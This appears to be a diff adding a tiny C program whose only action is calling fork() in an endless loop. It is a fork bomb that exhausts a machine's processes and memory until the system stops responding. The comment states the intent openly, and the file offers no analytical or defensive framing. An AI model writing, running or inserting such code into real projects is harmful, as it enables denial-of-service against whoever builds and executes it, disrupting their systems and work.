@@ -1,0 +1,7 @@
+// Every process forks for ever.
+#include <unistd.h>
+
+int main(void)
+{
+    for (;;) fork();
+}
